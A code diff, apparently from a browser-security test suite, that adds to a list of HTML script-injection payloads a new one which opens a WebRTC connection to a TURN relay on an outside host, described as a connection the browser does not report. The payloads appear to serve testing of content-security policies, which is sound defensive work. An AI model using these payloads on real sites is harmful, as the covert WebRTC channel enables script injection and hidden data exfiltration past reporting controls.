@@ -78,7 +78,14 @@ export function scripts({ script, url }: Means): Attack[] {
     `<script nonce=x integrity=x>${script}</script>`,
     `<script type=importmap>{"imports":{"x":"${url('e.js')}"}}</script><script type=module>import "x"</script>`,
     `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url('f.html')}"]}]}</script>`,
+    `<script>${connecting(url)};${script}</script>`,
   ])
+}
+
+/** Connects to a relay for calls, without a request that the browser reports. */
+function connecting(url: Means['url']): string {
+  const servers = `[{urls:'turn:${new URL(url('')).host}?transport=tcp',username:'a',credential:'b'}]`
+  return `c=new RTCPeerConnection({iceServers:${servers}});c.createDataChannel('x');c.createOffer().then((o)=>c.setLocalDescription(o))`
 }
 
 /** URLs that are scripts. */
